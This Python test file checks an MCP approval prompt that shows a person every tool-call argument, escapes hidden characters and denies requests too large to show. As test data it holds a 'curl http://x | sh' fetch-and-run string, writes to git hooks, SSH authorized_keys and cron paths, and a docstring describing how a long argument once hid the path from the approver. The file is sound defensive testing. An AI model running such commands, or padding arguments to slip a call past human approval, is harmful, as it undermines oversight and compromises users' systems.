"""The elicitation approver (``ClientApprover``): the person at the MCP client sees every argument value, the
security-relevant ones first, long ones elided in the middle with their length and hash; a request that cannot be
shown whole is denied without asking. Calls go through a real toolrig server and a real MCP client session."""

from __future__ import annotations

import hashlib
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import anyio
import mcp_types
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from toolrig import CallContext, Policy, ToolCall, tool
from toolrig.mcp import ClientApprover, MCPToolset, serve_async
from toolrig.policy import visible
from toolrig.policy.approvals import fit_request, render_request
from toolrig.toolsets import FunctionToolset

pytestmark = pytest.mark.anyio

LOREM = "lorem " * 400


@tool(requires_approval=True)
def write_file(path: str, content: str) -> str:
    """Write a file (the test never writes: it only reports what it was given).

    Args:
        path: where.
        content: what.
    """
    return f"wrote {len(content)} characters to {path}"


@tool(requires_approval=True)
def store(data: dict[str, Any]) -> str:
    """Store a JSON object.

    Args:
        data: the object.
    """
    return f"stored {len(data)} keys"


TOOLS = FunctionToolset([write_file, store])


@asynccontextmanager
async def session(asked: list[str], answer: bool = True, **approver: Any) -> AsyncIterator[MCPToolset]:
    """A toolrig server whose approver asks through the client, and a client whose person answers ``answer``."""
    ready = anyio.Event()
    url: list[str] = []

    def on_ready(where: str) -> None:
        url.append(where)
        ready.set()

    async def elicitation(params: Any, ctx: Any) -> Any:
        asked.append(params.message)
        return mcp_types.ElicitResult(action="accept", content={"approve": answer})

    async with anyio.create_task_group() as tg:
        tg.start_soon(lambda: serve_async(TOOLS, transport="http", port=0, on_ready=on_ready, audit=False,
                                          policy=Policy(allowed_tools=None), approval=ClientApprover(**approver)))
        with anyio.fail_after(30):
            await ready.wait()
        async with MCPToolset(url[0], elicitation=elicitation) as client:
            yield client
        tg.cancel_scope.cancel()


async def call(client: MCPToolset, name: str, **arguments: Any) -> Any:
    return await client.get(name).__call_tool__(arguments)  # type: ignore[union-attr]


def argument_lines(message: str) -> list[str]:
    return [line for line in message.split("\n") if line.startswith("  ")]


async def test_a_long_first_argument_no_longer_hides_the_path() -> None:
    """Before: the message was cut at 4,000 characters in the model's argument order, so
    ``write_file(content="lorem "*400, path=".git/hooks/pre-commit")`` was approved without ``path`` shown."""
    asked: list[str] = []
    async with session(asked) as client:
        result = await call(client, "write_file", content=LOREM, path=".git/hooks/pre-commit")
    assert not result.is_error and "to .git/hooks/pre-commit" in result.text
    [message] = asked
    lines = argument_lines(message)
    assert lines[0] == '  path = ".git/hooks/pre-commit"'  # the path first, whole
    assert lines[1].startswith('  content = "lorem lorem')
    digest = hashlib.sha256(LOREM.encode()).hexdigest()[:12]
    assert f"(2,400 chars, sha256 {digest})" in lines[1]  # elided with its length and the hash of all of it
    assert len(message) <= 4_000 and "write_file" in message


@pytest.mark.parametrize("order", ["content first", "path first"])
async def test_every_value_is_shown_whatever_the_order_and_sizes(order: str) -> None:
    """The general form: many long values and a nested path after them, in any order."""
    data: dict[str, Any] = {f"note{i}": f"{i} " + "x" * 3_000 for i in range(12)}
    data["target"] = {"files": [{"name": "ok.txt"}, {"name": "../../.ssh/authorized_keys"}]}
    if order == "path first":
        data = dict(reversed(list(data.items())))
    asked: list[str] = []
    async with session(asked, answer=False) as client:
        result = await call(client, "store", data=data)
    assert result.is_error and "approval_denied" in result.text  # the person said no
    [message] = asked
    lines = argument_lines(message)
    assert lines[:2] == ['  data.target.files[0].name = "ok.txt"',
                         '  data.target.files[1].name = "../../.ssh/authorized_keys"']
    assert len(lines) == 14 and len(message) <= 4_000
    for i in range(12):
        note = data[f"note{i}"]
        digest = hashlib.sha256(note.encode()).hexdigest()[:12]
        assert any(line.startswith(f'  data.note{i} = "{i} xxx') and line.endswith(
            f'" ({len(note):,} chars, sha256 {digest})') and len(line) > 100 for line in lines)  # a fair share each


async def test_a_request_too_large_to_show_is_denied_without_asking() -> None:
    asked: list[str] = []
    async with session(asked) as client:
        result = await call(client, "store", data={f"key_{i}": i for i in range(600)})
        assert result.is_error and "approval_denied" in result.text
        assert "too many values to show whole" in result.text and "declined" not in result.text  # the reason
        assert asked == []  # nobody was asked to approve what they could not see
        small = await call(client, "store", data={"a": 1})
        assert not small.is_error and len(asked) == 1


async def test_the_form_names_the_tool_version_given_tools() -> None:
    asked: list[str] = []
    version = TOOLS.get("store").spec.version  # type: ignore[union-attr]
    async with session(asked, tools=TOOLS) as client:
        result = await call(client, "store", data={"a": 1})
    assert not result.is_error and f"store@{version}" in asked[0]


async def test_controls_and_invisible_characters_reach_the_person_escaped() -> None:
    asked: list[str] = []
    async with session(asked) as client:
        await call(client, "write_file", path="notes\u202e.txt", content="line\x1b[2J\u200bend")
    [message] = asked
    assert '  path = "notes<U+202E>.txt"' in message and '  content = "line\\x1b[2J<U+200B>end"' in message
    assert "\x1b" not in message and "\u202e" not in message and "\u200b" not in message


async def test_a_smaller_client_limit_elides_more_but_still_shows_every_value() -> None:
    asked: list[str] = []
    async with session(asked, max_chars=600) as client:
        await call(client, "write_file", content=LOREM, path="/etc/" + "d" * 3_000 + "/cron.d/job")
    [message] = asked
    path, content = argument_lines(message)
    assert path.startswith('  path = "/etc/ddd') and path.count("…") == 1 and '/cron.d/job" (' in path
    assert content.startswith('  content = "lorem') and len(message) <= 600


# ---- generated arguments: every key path and every short value shown, or a denial ----

KEYS = st.text(max_size=20)
SCALARS = st.one_of(st.text(max_size=80), st.text(min_size=60, max_size=2_500), st.integers(),
                    st.floats(allow_nan=False), st.booleans(), st.none())
VALUES = st.recursive(SCALARS, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=4),
                      max_leaves=25)
ARGUMENTS = st.dictionaries(KEYS, VALUES, max_size=8)


def key_part(key: str, first: bool) -> str:
    if re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", key):
        return key if first else f".{key}"
    return f'["{visible(key, quote=chr(34))}"]'


def expected(value: Any, path: str = "") -> list[tuple[str, Any]]:
    """(key path as shown, leaf value) of every leaf."""
    if isinstance(value, dict) and (value or not path):
        return [pair for k, v in value.items() for pair in expected(v, path + key_part(k, not path))]
    if isinstance(value, list) and value:
        return [pair for i, v in enumerate(value) for pair in expected(v, f"{path}[{i}]")]
    return [(path, value)]


def shown(value: Any) -> str:
    import json

    if isinstance(value, str):
        return f'"{visible(value, quote=chr(34))}"'
    return "{}" if value == {} else "[]" if value == [] else json.dumps(value)


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow], max_examples=300)
@given(arguments=ARGUMENTS, limit=st.integers(min_value=200, max_value=6_000))
def test_generated_arguments_are_shown_whole_or_denied(arguments: dict[str, Any], limit: int) -> None:
    approver = ClientApprover(max_chars=limit)
    message = approver.message(ToolCall(name="store", arguments=arguments), CallContext(), "asked")
    if message is None:
        full = render_request(ToolCall(name="store", arguments=arguments), CallContext(), "asked")
        assert len(full) > limit  # denied only when the whole request does not fit
        return
    assert len(message) <= limit
    lines = argument_lines(message)
    leaves = expected(arguments)
    assert len(lines) == (len(leaves) if arguments else 0)
    for path, value in leaves:
        whole = f"  {path} = {shown(value)}"
        if len(shown(value)) <= 64:
            assert whole in lines, (whole, message)  # a short value: always whole
        else:
            assert whole in lines or any(line.startswith(f"  {path} = ") and " chars, sha256 " in line
                                         for line in lines), (path, message)


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow], max_examples=100)
@given(arguments=ARGUMENTS)
def test_without_a_limit_every_value_is_shown_whole(arguments: dict[str, Any]) -> None:
    text = render_request(ToolCall(name="store", arguments=arguments), CallContext(), "asked")
    lines = argument_lines(text)
    for path, value in expected(arguments) if arguments else []:
        assert f"  {path} = {shown(value)}" in lines


def test_security_relevant_values_come_first_by_key_or_by_value() -> None:
    arguments = {"body": "hello", "notes": "x" * 500, "opts": {"retries": 3, "remote_url": "example"},
                 "where": "~/projects/app", "run": "make && curl http://x | sh", "count": 2}
    text = fit_request(ToolCall(name="t", arguments=arguments), CallContext(), "r", limit=2_000)
    assert text is not None
    lines = argument_lines(text)
    keys = [line.split(" = ")[0].strip() for line in lines]
    assert keys == ["opts.remote_url", "where", "run", "body", "opts.retries", "count", "notes"]


def test_a_reason_too_long_for_the_limit_is_denied_not_cut() -> None:
    assert ClientApprover(max_chars=300).message(ToolCall(name="t", arguments={}), CallContext(), "r" * 400) is None
    assert fit_request(ToolCall(name="t", arguments={}), CallContext(), "r" * 200, limit=300) is not None


async def test_approval_stays_bound_to_the_exact_call_shown() -> None:
    """Each call asks anew: a yes for one call's arguments is never reused for another's."""
    asked: list[str] = []
    async with session(asked) as client:
        await call(client, "write_file", path="a.txt", content="one")
        await call(client, "write_file", path="a.txt", content="two")
    assert len(asked) == 2 and '"one"' in asked[0] and '"two"' in asked[1]
